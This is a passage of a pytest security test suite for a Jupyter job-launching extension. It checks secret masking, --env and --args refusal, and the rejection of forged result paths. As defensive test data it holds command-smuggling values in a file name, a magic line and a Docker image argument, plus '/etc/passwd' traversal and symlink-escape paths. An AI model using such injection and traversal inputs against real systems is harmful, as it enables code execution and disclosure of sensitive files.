    marker = tmp_path / "RAN"  # the job's folder is the notebook's: a relative name lands here
    evil = "x\nopen('RAN', 'w')\n"
    nb = write_notebook(tmp_path / f"{evil}.ipynb", "print('plain job')")
    _, record = run_job(nb, tmp_path / "home")
    assert record.state is JobState.SUCCEEDED, record.error
    assert "plain job" in (Path(record.job_dir) / "logs" / "chief.log").read_text()
    cell = "%%capture print;open('RAN','w');x\nprint(1)"
    with pytest.raises(TfcError, match="identifier"):
        plan_for(write_notebook(tmp_path / "cap.ipynb", cell))
    with pytest.raises(TfcError, match="is not an image reference"):
        plan_for(nb, f"--backend docker --parent-image 'python:3.11\nRUN touch {marker}'")
    assert not marker.exists()


@pytest.mark.parametrize(
    ("form", "content", "line"),
    [*CONTENT_FORMS, *((f, d, 0) for f, d in ARCHIVE_FORMS)],
    ids=lambda v: str(v)[:40],
)
@pytest.mark.item("every planted secret stops the plan, quoted nowhere")
def test_every_planted_secret_stops_the_plan(
    tmp_path: Path, form: str, content: str | bytes, line: int
) -> None:
    """Each planted form, in a neutrally named file the notebook's code reads, stops the plan
    with one line naming the file (and its line), never quoting the secret."""
    name = "bundle.zip" if line == 0 else "notes.txt"
    data = content if isinstance(content, bytes) else content.encode()
    (tmp_path / name).write_bytes(data)
    nb = write_notebook(
        tmp_path / "nb.ipynb",
        f"%%tfc_run --backend docker --dry-run\nsize = len(open({name!r}, 'rb').read())",
    )
    with pytest.raises(SecretInFile) as info:
        plan_for(nb)
    text = str(info.value)
    where = f"{name}, line {line} holds a secret" if line else f"{name}"
    assert where in text and "Fix:" in text and "\n" not in text, (form, text)
    for token in re.findall(rb"[A-Za-z0-9_/+.-]{16,}", data):
        assert token.decode("latin-1") not in text, (form, token)


@pytest.mark.parametrize(
    ("form", "content", "line"),
    [f for f in CONTENT_FORMS if isinstance(f[1], str)],
    ids=lambda v: str(v)[:40],
)
@pytest.mark.item("a secret passed as --env is refused, quoted nowhere")
def test_a_secret_value_in_env_is_refused(form: str, content: str, line: int) -> None:
    """--env is written into the job's request, records and dry run: a value that holds a
    secret stops the plan with one line naming the variable and Secret Manager, never the value."""
    from tfc_jupyter.job.options import JobOptions, to_spec

    with pytest.raises(SpecError) as info:
        to_spec(JobOptions.of(env=(f"DATA={content}",)), _settings())
    text = str(info.value)
    assert "--env DATA holds what looks like a secret" in text and "Secret Manager" in text
    assert "\n" not in text and info.value.field == "env"
    for token in re.findall(r"[A-Za-z0-9_/+.-]{16,}", content):
        assert token not in text, (form, token)


@pytest.mark.parametrize(
    "name",
    [
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "HF_TOKEN",
        "WANDB_API_KEY",
        "DB_PASSWORD",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "PRIVATE_KEY",
        "SLACK_SIGNING_KEY",
    ],
)
@pytest.mark.item("a secret passed as --env is refused, quoted nowhere")
def test_a_secret_name_in_env_is_refused_through_the_magic_line(name: str) -> None:
    from tfc_jupyter.job.options import JobOptions, to_spec

    with pytest.raises(SpecError) as info:
        to_spec(JobOptions.from_line(f"--env {name}=harmless-looking"), _settings())
    assert f"--env {name} looks like a secret" in str(info.value)
    assert "harmless-looking" not in str(info.value)


def _settings() -> Any:
    from tfc_jupyter.config import load_settings

    return load_settings(environ={}, include_server=False)


# ============================================== secrets outside files (issue 24, class 4)
HF = "hf_" + "Q7wPLANTEDz" * 3 + "k"
URL_SECRET = "s3cretPLANTED"


@pytest.mark.item("a secret in a cell, a requirement or --args never ships, quoted nowhere")
@pytest.mark.parametrize("backend", ["docker", "vertex --project my-proj-1"])
@pytest.mark.parametrize(
    "cell",
    [
        f"import os\nos.environ['HF_TOKEN'] = '{HF}'",
        f'login = print\nlogin(token="{HF}")',
        "import os\nos.environ['AWS_SECRET_ACCESS_KEY'] = 'wJalrXUtnFEMI/K7MDENG/bPxPLANTED'\n"
        "aws_secret_access_key = 'wJalrXUtnFEMI/K7MDENG/bPxPLANTED'",
    ],
    ids=["environ", "login", "aws"],
)
def test_a_token_in_a_cell_stops_a_job_that_ships_its_code(
    tmp_path: Path, backend: str, cell: str
) -> None:
    nb = write_notebook(tmp_path / "nb.ipynb", "x = 1", f"%%tfc_run --backend {backend}\n{cell}")
    with pytest.raises(SpecError) as info:
        plan_for(nb)
    text = str(info.value)
    assert re.search(r"cell 2, line \d holds a secret \(", text), text
    assert "it would go into the job's image" in text and "os.environ" in text
    assert "PLANTED" not in text


@pytest.mark.item("a secret in a cell, a requirement or --args never ships, quoted nowhere")
def test_a_token_in_a_cell_of_a_local_job_is_said_and_stays_here(tmp_path: Path) -> None:
    nb = write_notebook(tmp_path / "nb.ipynb", f"%%tfc_run\nimport os\nos.environ['T'] = '{HF}'")
    plan = plan_for(nb)
    assert any("cell 1, line 3 holds a secret (a Hugging Face token)" in w for w in plan.warnings)
    assert not any("PLANTED" in w for w in plan.warnings)


@pytest.mark.item("a secret in a cell, a requirement or --args never ships, quoted nowhere")
@pytest.mark.parametrize(
    "pip",
    [
        f"%pip install git+https://alice:{URL_SECRET}@github.com/org/pkg.git",
        f"%pip install --extra-index-url https://__token__:{URL_SECRET}@pypi.example/simple pkg",
        f"%pip install https://{URL_SECRET}x@files.example/pkg-1.0-py3-none-any.whl",
    ],
    ids=["git", "index", "wheel"],
)
def test_credentials_in_a_requirement_url(tmp_path: Path, pip: str) -> None:
    shipped = write_notebook(tmp_path / "a.ipynb", pip, "%%tfc_run --backend docker\nx = 1")
    with pytest.raises(SpecError) as info:
        plan_for(shipped)
    text = str(info.value)
    assert "holds credentials" in text and "***@" in text and URL_SECRET not in text

    here = write_notebook(tmp_path / "b.ipynb", pip, "%%tfc_run\nx = 1")
    plan = plan_for(here)
    assert any("***@" in r for r in plan.requirements), plan.requirements
    shown = plan.to_text() + json.dumps(plan.summary()) + json.dumps(plan.spec.to_dict())
    assert URL_SECRET not in shown
    assert any("holds credentials" in w for w in plan.warnings)


@pytest.mark.item("a secret in a cell, a requirement or --args never ships, quoted nowhere")
@pytest.mark.parametrize("backend", ["local", "docker"])
def test_a_secret_in_script_arguments_is_refused_as_env_is(tmp_path: Path, backend: str) -> None:
    from tfc_jupyter.job.options import JobOptions, to_spec

    with pytest.raises(SpecError) as info:
        to_spec(JobOptions.of(backend=backend, args=f"--token {HF}"), _settings())
    text = str(info.value)
    assert "--args holds what looks like a secret (a Hugging Face token" in text
    assert "PLANTED" not in text and "Secret Manager" in text
    to_spec(JobOptions.of(backend=backend, args="--epochs 3"), _settings())  # no alarm


# ================================================================ --notify secrets (issue 46)
NOTIFY_ITEM = "a --notify URL's secrets are shown nowhere"
NOTIFY_URLS: dict[str, tuple[str, ...]] = {  # a --notify URL: its secret parts
    "json://user:Pw0rdSecret1@hooks.example.com/path?token=TokSecret22": (
        "Pw0rdSecret1",
        "TokSecret22",
    ),
    "slack://T0SECRETAAA/B0SECRETBBB/SECRETCCCC0123456789abcd": (
        "T0SECRETAAA",
        "B0SECRETBBB",
        "SECRETCCCC0123456789abcd",
    ),
    "form://hooks.example.com/hook/PathSecret66": ("PathSecret66",),
    "json://hooks.example.com/?+X-Token=HeaderSecret7": ("HeaderSecret7",),
    "mailto://user:MailSecret88@example.com": ("MailSecret88",),
    "discord://123456789012345678/DiscordSecret99abcdefghijklmnop": (
        "DiscordSecret99abcdefghijklmnop",
    ),
    "ntfy://user:NtfySecret10@ntfy.example.com/TopicSecret11": ("NtfySecret10", "TopicSecret11"),
    "jsons://hooks.example.com:8443/api/HookSecret12/?:key=PayloadSecret13": (
        "HookSecret12",
        "PayloadSecret13",
    ),
}


def _notify_secrets_in(text: str, secrets: Any = None) -> list[str]:
    """The secret parts of the --notify URLs (of NOTIFY_URLS, or ``secrets``) in ``text``."""
    parts = secrets if secrets is not None else [p for v in NOTIFY_URLS.values() for p in v]
    return [part for part in parts if part in text]


def _told_job(home: Path, urls: list[str]) -> JobRecord:
    """An ended job whose end was told to ``urls`` (and failed: what apprise said is kept)."""
    job_id = f"20261127-000005-{uuid.uuid4().hex[:6]}"
    stored_job(home, job_id, "told", spec={"notify": urls})
    said = notify.masked(f"Failed to send to {' '.join(urls)}: refused", urls)
    told = {"at": time.time(), "ok": False, "said": said}  # told: the server sends nothing
    return jobs.store_for(home).update(job_id, handle={notify.NOTIFIED: told})


@pytest.mark.item(NOTIFY_ITEM)
@pytest.mark.parametrize("as_json", [True, False], ids=["plan --json", "plan (dry run text)"])
def test_a_plan_shows_no_notify_secret(
    tmp_path: Path, tfc_env: Path, capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    """``tfc-jupyter plan`` (and its ``--json``) with every URL shape: masked in the spec,
    the options and the line; the job folder's ``job.json`` (a docker job's container reads
    its folder) likewise; the plan itself keeps the URLs to put in the job's record."""
    nb = write_notebook(tmp_path / "nb.ipynb", "x = 1")
    argv = ["plan", str(nb), *(["--json"] if as_json else [])]
    for url in NOTIFY_URLS:
        argv += ["--notify", url]
    assert cli.main(argv) == 0
    out, err = capsys.readouterr()
    assert _notify_secrets_in(out + err) == [], out + err
    if as_json:
        summary = json.loads(out)
        shown = notify.shown_all(NOTIFY_URLS)
        assert summary["spec"]["notify"] == summary["options"]["notify"] == shown
        assert "mailto://user:****@example.com" in summary["line"]
        assert "form://hooks.example.com/***/***" in shown
    plan = plan_for(nb, " ".join(f"--notify {shlex.quote(u)}" for u in NOTIFY_URLS))
    assert plan.spec.notify == tuple(NOTIFY_URLS)  # what the record keeps, to send
    assert _notify_secrets_in(jobs.job_dir_files(plan)["job.json"]) == []


@pytest.mark.item(NOTIFY_ITEM)
def test_jobs_json_and_config_show_no_notify_secret(
    tfc_env: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """``tfc-jupyter jobs --json`` (and the table), and ``tfc-jupyter config`` with the
    ``notify`` setting: masked; the record keeps each URL as written (it is sent from there)."""
    urls = list(NOTIFY_URLS)
    record = _told_job(Path(jobs.store_for().path).parent, urls)
    assert notify.targets(record) == tuple(urls)
    assert cli.main(["jobs", "--json"]) == 0
    out, err = capsys.readouterr()
    assert _notify_secrets_in(out + err) == [], out
    (listed,) = json.loads(out)
    assert listed["spec"]["notify"] == notify.shown_all(urls)
    assert listed["handle"][notify.NOTIFIED]["said"].startswith("Failed to send to json://user")
    assert cli.main(["jobs"]) == 0
    monkeypatch.setenv("TFC_NOTIFY", " ".join(urls))
    assert cli.main(["config"]) == 0
    out, err = capsys.readouterr()
    assert _notify_secrets_in(out + err) == [], out
    assert "slack://T...A/B...B/S...d" in out


@pytest.mark.item(NOTIFY_ITEM)
async def test_the_jobs_api_serves_no_notify_secret(
    tfc_env: Path, tfc_home: Path, jp_fetch: Fetch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``GET /jobs``, ``GET /jobs/{id}`` and ``GET /defaults`` (the ``notify`` setting) of the
    real server: masked; the record still holds the URLs as written."""
    urls = list(NOTIFY_URLS)
    monkeypatch.setenv("TFC_NOTIFY", " ".join(urls))
    record = _told_job(tfc_home, urls)
    bodies = {}
    for parts in (("jobs",), ("jobs", record.id), ("defaults",)):
        response = await jp_fetch("tfc-jupyter", *parts)
        assert response.code == 200, parts
        bodies["/".join(parts)] = response.body.decode()
    for where, body in bodies.items():
        assert _notify_secrets_in(body) == [], (where, body[:2000])
    listed = json.loads(bodies["jobs"])["jobs"]
    assert [j["spec"]["notify"] for j in listed] == [notify.shown_all(urls)]
    assert json.loads(bodies[f"jobs/{record.id}"])["spec"]["notify"] == notify.shown_all(urls)
    setting = json.loads(bodies["defaults"])["settings"]["notify"]["value"]
    assert setting == " ".join(notify.shown_all(urls))
    assert jobs.store_for(tfc_home).get(record.id).spec["notify"] == urls


@pytest.mark.item(NOTIFY_ITEM)
@pytest.mark.slow
async def test_a_form_that_sends_the_masked_urls_back_launches_with_the_real_ones(
    tfc_env: Path, tfc_home: Path, jp_fetch: Fetch, jp_root_dir: Path
) -> None:
    """The sidebar's form fills itself from the cell's dry run (``plan.options``), so it
    holds the masked URLs and sends them back with ``replace``: the job is told where the
    cell says (the record), no answer holds a secret, and a masked URL typed anew is refused
    in one line."""
    urls = [  # a closed port on this machine: the job's end is said (and fails) at once
        "json://user:LoopSecret1@127.0.0.1:9/LoopPath22?token=LoopToken3",
        "form://127.0.0.1:9/hook/LoopForm44",
    ]
    secrets = ["LoopSecret1", "LoopPath22", "LoopToken3", "LoopForm44"]
    flags = " ".join(f"--notify {shlex.quote(u)}" for u in urls)
    write_notebook(jp_root_dir / "told.ipynb", f"%%tfc_run --strategy none {flags}\nx = 1")

    async def post(body: dict[str, Any]) -> tuple[int, str]:
        try:
            response = await jp_fetch("tfc-jupyter", "jobs", method="POST", body=json.dumps(body))
        except HTTPClientError as exc:
            assert exc.response is not None
            response = exc.response
        return response.code, response.body.decode()

    status, text = await post({"path": "told.ipynb", "options": {"dry_run": True}})
    assert status == 200 and _notify_secrets_in(text, secrets) == [], text
    options = json.loads(text)["plan"]["options"]
    assert options["notify"] == notify.shown_all(urls)
    status, text = await post({"path": "told.ipynb", "options": options, "replace": True})
    assert status == 201 and _notify_secrets_in(text, secrets) == [], text
    store = jobs.store_for(tfc_home)
    record = store.get(json.loads(text)["job"]["id"])
    assert notify.targets(record) == tuple(urls)
    ended = jobs.Job(record.id, store).wait(timeout=JOB_DEADLINE_S)
    assert ended.state is JobState.SUCCEEDED, ended.error
    elsewhere = notify.shown("json://user:Other@127.0.0.1:10/hook")  # no URL of the cell's
    typed = {"notify": [elsewhere], "dry_run": True}
    status, text = await post({"path": "told.ipynb", "options": typed, "replace": True})
    assert status == 400 and "is masked" in text and _notify_secrets_in(text, secrets) == []


@pytest.mark.item(NOTIFY_ITEM)
def test_what_apprise_logs_while_sending_holds_no_notify_secret(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A process whose logging shows apprise's and urllib3's debug lines (the URL loaded, the
    URL posted to, the connection error): every secret part masked; what the record keeps
    of what apprise said, too."""
    urls = [
        "json://user:LogSecret1@127.0.0.1:9/LogPath22?token=LogToken3&+X-Token=LogHeader4",
        "form://127.0.0.1:9/hook/LogForm55",
        "xml://127.0.0.1:9/LogXml66/?:key=LogPayload7",
    ]
    secrets = ["LogSecret1", "LogPath22", "LogToken3", "LogHeader4", "LogForm55", "LogXml66"]
    with caplog.at_level(logging.DEBUG):
        notify.check(urls)
        ok, said = notify._deliver(urls, "title", "body", "info", 20.0)
    assert ok is False and said
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "127.0.0.1" in logged  # the lines are there, masked
    assert _notify_secrets_in(logged + said, [*secrets, "LogPayload7"]) == [], logged


_SECRET = st.text(  # marked by its start: never a word the plan says for itself ("estimato")
    "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789", min_size=5, max_size=21
).map(lambda core: f"Zq9{core}")
_SHAPES = {  # how a --notify URL holds its secrets: {0} {1} {2}
    "user:password": "json://user:{0}@hooks.example.com/hook",
    "?token=": "jsons://hooks.example.com/hook?token={0}",
    "path secret": "form://hooks.example.com/hook/{0}",
    "password and path": "xml://user:{0}@hooks.example.com:8080/{1}/{2}",
    "+header": "json://hooks.example.com/?+X-Token={0}",
    "payload field": "json://hooks.example.com/hook?:key={0}&-drop={1}",
    "e-mail password": "mailto://user:{0}@example.com",
    "ntfy topic": "ntfy://user:{0}@ntfy.example.com/{1}",
    "slack tokens": "slack://{0}/{1}/{2}",
    "discord webhook": "discord://{0}/{1}",
    "unknown scheme": "nosuch://user:{0}@{1}/{2}?token={2}",
}


@pytest.fixture
def a_plan(tmp_path: Path, tfc_env: Path) -> Plan:
    """One local job's plan, given each generated URL in turn (planned once: it is slow)."""
    return plan_for(write_notebook(tmp_path / "nb.ipynb", "x = 1"))


@pytest.mark.item(NOTIFY_ITEM)
@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    shape=st.sampled_from(sorted(_SHAPES)),
    secrets=st.lists(_SECRET, min_size=3, max_size=3, unique=True),
)
def test_no_generated_notify_url_shows_its_secrets(
    a_plan: Plan, shape: str, secrets: list[str]
) -> None:
    """Any URL shape, any secrets: the shown form, the jobs API's job (with what apprise
    said), ``plan --json`` and the dry run's text hold none of them; the record and the
    plan keep the URL as written."""
    url = _SHAPES[shape].format(*secrets)
    hidden = [s for i, s in enumerate(secrets) if f"{{{i}}}" in _SHAPES[shape]]
    said = notify.masked(f"Failed to send to {url}: {hidden[0]} refused", [url])
    record = JobRecord(
        id="20261127-000000-aaaaaa",
        name="told",
        backend="local",
        state=JobState.FAILED,
        spec={"notify": [url]},
        handle={notify.NOTIFIED: {"at": 0.0, "ok": False, "said": said}},
    )
    plan = dataclasses.replace(
        a_plan,
        spec=dataclasses.replace(a_plan.spec, notify=(url,)),
        options=a_plan.options.replace(notify=(url,)),
    )
    surfaces = {
        "shown": notify.shown(url),
        "job": json.dumps(jobs.job_dict(record)),
        "plan --json": json.dumps(plan.summary()),
        "dry run": plan.to_text(script=False),
    }
    for where, text in surfaces.items():
        assert _notify_secrets_in(text, hidden) == [], (where, url, text)
    assert notify.targets(record) == (url,) and plan.spec.notify == (url,)


# ====================================================================== paths in reports
REPORT_ITEM = "a report naming a path outside the job's folders is refused"


def _report_record(
    home: Path, job_id: str, backend: str, *, notebook: Path | None = None, **more: Any
) -> tuple[jobs.Job, Path]:
    """A finished job's record and (empty) folder in ``home``, as the product writes them."""
    job_dir = home / "jobs" / job_id
    (job_dir / "logs").mkdir(parents=True)
    store = jobs.store_for(home)
    store.create(
        JobRecord(
            id=job_id,
            name=job_id,
            backend=backend,
            state=JobState.SUCCEEDED,
            job_dir=str(job_dir),
            log_dir=str(job_dir / "logs"),
            notebook=str(notebook) if notebook else None,
            ended_at=time.time(),
            **more,
        )
    )
    return jobs.Job(job_id, store), job_dir


def _read_everywhere(job: jobs.Job, root: Path) -> dict[str, Any]:
    """What the job's reports lead to, as each reader takes them: the kernel's ``Job``,
    TensorBoard's folders and the jobs API's metrics."""
    from tfc_jupyter.returns.tensorboard import log_dirs

    results = job.results()
    served = JobService(root).metrics(job.id)
    return {
        "saved": set(results.saved) | set(served["saved"]),
        "tensorboard": set(results.tensorboard) | set(served["tensorboard"]) | set(log_dirs(job)),
        "model_dir": {job.model_dir, served["model_dir"]},
        "refused": {r["path"] for r in results.refused},
    }


@pytest.mark.item(REPORT_ITEM)
def test_a_local_report_naming_a_path_outside_the_job_is_refused(
    tmp_path: Path, tfc_env: Path
) -> None:
    """Issue 46: a local job appended ``saved /etc/passwd`` to its own ``results.jsonl`` and
    ``job.model_dir`` named it (``load_model`` read it, TensorBoard would serve it). Absolute
    paths out, ``..`` out, a link in the job folder out, a relative path: refused; the job
    folder and the notebook's folder (where a local job writes): kept."""
    home = Path(os.environ["TFC_JUPYTER_HOME"])
    (tmp_path / "nb").mkdir()
    job, job_dir = _report_record(home, "rep-local", "local", notebook=tmp_path / "nb" / "n.ipynb")
    (job_dir / "escape").symlink_to("/etc")
    outside = [
        "/etc/passwd",
        f"{job_dir}/../../../../../../etc/passwd",
        f"{job_dir}/escape/passwd",
        "relative/model.keras",
        "/etc",
        f"{job_dir}/escape",
    ]
    good_model, good_board = str(tmp_path / "nb" / "good.keras"), str(job_dir / "tensorboard")
    events = [{"event": "saved", "path": good_model, "how": "save", "library": "keras"}]
    events += [{"event": "saved", "path": p, "how": "save"} for p in outside[:4]]
    events += [{"event": "tensorboard", "log_dir": p} for p in (good_board, *outside[4:])]
    (job_dir / "results.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events))
    seen = _read_everywhere(job, tmp_path)
    assert seen["saved"] == {good_model} and seen["model_dir"] == {good_model}, seen
    assert seen["tensorboard"] == {good_board}, seen
    assert seen["refused"] == set(outside), seen

    only_out, out_dir = _report_record(home, "rep-out", "local")
    (out_dir / "results.jsonl").write_text(json.dumps(events[1]) + "\n")
    with pytest.raises(SpecError) as info:
        only_out.load_model()
    said = str(info.value)
    assert "/etc/passwd" in said and "not read" in said and "Fix:" in said and "\n" not in said
    assert "root:" not in said  # never read


@pytest.mark.item(REPORT_ITEM)
def test_a_vertex_report_naming_a_path_outside_its_base_output_folder_is_refused(
    tmp_path: Path, tfc_env: Path
) -> None:
    """The Vertex AI path: signed report lines in the chief's log. Another bucket, ``..`` out
    of the base output folder, a folder of this machine and another scheme are refused; the
    base output folder's model is kept (and would be downloaded into the job folder)."""
    from tfc_runtime.protocol import report_line

    from tfc_jupyter.store.records import REPORT_KEY

    home = Path(os.environ["TFC_JUPYTER_HOME"])
    key = "k" * 32
    job, job_dir = _report_record(
        home,
        "rep-vertex",
        "vertex",
        spec={"project": "proj", "base_output_dir": "gs://models/run1"},
        handle={REPORT_KEY: key},
    )
    outside = [
        "gs://other-bucket/model.keras",
        "gs://models/run1/../run2/model.keras",
        "gs://models/run10/model.keras",
        "/etc/passwd",
        "s3://models/run1/model.keras",
        "gs://other-bucket/logs",
        str(home),
    ]
    good_model, good_board = "gs://models/run1/model/model.keras", "gs://models/run1/logs"
    events = [{"event": "saved", "path": good_model, "how": "save", "library": "keras"}]
    events += [{"event": "saved", "path": p, "how": "save"} for p in outside[:5]]
    events += [{"event": "tensorboard", "log_dir": p} for p in (good_board, *outside[5:])]
    lines = [report_line(json.dumps(e), key) + "\n" for e in events]
    forged = report_line(json.dumps({"event": "saved", "path": "/etc/shadow"}), "x" * 32)
    (job_dir / "logs" / "chief.log").write_text("Epoch 1/1\n" + "".join(lines) + forged + "\n")
    seen = _read_everywhere(job, tmp_path)
    assert seen["saved"] == {good_model} and seen["model_dir"] == {good_model}, seen
    kernels_own = str(job_dir / "tensorboard")  # tensorboard.log_dirs adds it, never a report
    assert seen["tensorboard"] - {kernels_own} == {good_board}, seen
    assert seen["refused"] == set(outside), seen  # a line signed with another key: no report


@pytest.mark.item(REPORT_ITEM)
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(parts=st.lists(st.sampled_from(["..", ".", "a", "out", "in", "", "b.keras"]), max_size=8))
def test_a_reported_path_is_judged_as_the_file_system_resolves_it(
    tmp_path_factory: pytest.TempPathFactory, parts: list[str]
) -> None:
    """Generated paths of ``..``, ``.``, links out of and back into the job folder: a path is
    kept exactly when it resolves inside the job folder."""
    from tfc_jupyter.returns.results import outside_reason

    base = tmp_path_factory.mktemp("judged")
    job_dir = base / "job"
    if not job_dir.exists():
        (job_dir / "a").mkdir(parents=True)
        (job_dir / "out").symlink_to(base)
        (job_dir / "in").symlink_to(job_dir / "a")
    path = "/".join([str(job_dir), *parts])
    real = os.path.realpath(path)
    inside = real == os.path.realpath(job_dir) or real.startswith(os.path.realpath(job_dir) + "/")
    assert (outside_reason(path, [str(job_dir)]) is None) == inside, (path, real)


@pytest.mark.item(REPORT_ITEM)
@pytest.mark.slow
def test_a_local_job_that_reports_a_path_outside_its_folders_is_refused(
    tmp_path: Path, tfc_env: Path
) -> None:
    """End to end: a real local job's code appends report lines to its own results file,
    naming /etc/passwd as its model and /etc as its TensorBoard folder."""
    nb = write_notebook(
        tmp_path / "forge.ipynb",
        "%%tfc_run --strategy none\n"
        "import json, os\n"
        "with open(os.path.join(os.environ['TFC_JOB_DIR'], 'results.jsonl'), 'a') as f:\n"
        "    f.write(json.dumps({'event': 'saved', 'path': '/etc/passwd'}) + '\\n')\n"
        "    f.write(json.dumps({'event': 'tensorboard', 'log_dir': '/etc'}) + '\\n')\n"
        "print('forged')",
    )
    job, record = run_job(nb, Path(os.environ["TFC_JUPYTER_HOME"]))
    assert record.state is JobState.SUCCEEDED, (record.error, job.logs())
    seen = _read_everywhere(job, tmp_path)
    assert seen["refused"] == {"/etc/passwd", "/etc"}, seen
    assert "/etc/passwd" not in seen["saved"] | seen["model_dir"], seen
    assert "/etc" not in seen["tensorboard"], seen
    with pytest.raises(SpecError, match="not read"):
        job.load_model()
